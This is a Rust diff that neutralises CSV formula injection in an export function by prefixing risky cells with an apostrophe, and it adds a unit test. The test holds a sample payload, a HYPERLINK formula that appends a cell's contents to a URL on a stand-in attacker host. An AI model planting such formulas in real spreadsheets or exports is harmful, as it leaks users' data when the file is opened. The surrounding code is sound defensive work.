@@ -28,11 +28,31 @@ fn csv(header: &[&str], rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::with_capacity(64 * 1024));
-    writer.write_record(header)?;
+    let mut record = |cells: &mut dyn Iterator<Item = &str>| -> Result<(), csv::Error> {
+        for cell in cells {
+            writer.write_field(inert(cell).as_bytes())?;
+        }
+        // An empty record after its fields ends the row.
+        writer.write_record(None::<&[u8]>)
+    };
+    record(&mut header.iter().copied())?;
     for row in rows {
-        writer.write_record(&row)?;
+        record(&mut row.iter().map(String::as_str))?;
     }
     writer.into_inner().map_err(|e| e.into_error().into())
+}
+
+/// A cell a spreadsheet will not run: one that begins with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return is prefixed with `'` (OWASP's rule for
+/// CSV injection), unless it is a plain number ("-5"). A title such as
+/// `=HYPERLINK(…)` then shows as text. JSON keeps values exact.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 fn json<T: Serialize>(rows: &[T]) -> Result<Vec<u8>, serde_json::Error> {
@@ -312,5 +332,31 @@ pub fn table_data(r: &Renderer<'_>, table: Table, format: Format) -> Result<Vec<
                 .map_err(|e| fail(e.to_string())),
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_made_inert_and_numbers_stay_numbers() {
+        let bytes = csv(
+            &["title", "=header"],
+            [vec![
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".to_string(),
+                "-5".to_string(),
+            ]]
+            .into_iter(),
+        )
+        .unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(text.starts_with("title,'=header\r\n"), "{text}");
+        assert!(text.contains("\"'=HYPERLINK("), "{text}");
+        assert!(text.ends_with(",-5\r\n"), "{text}");
+        for cell in ["+1+2", "@SUM(A1)", "\tx", "\rx", "-x"] {
+            assert!(inert(cell).starts_with('\''), "{cell}");
+        }
+        assert_eq!(inert("Baku"), "Baku");
     }
 }
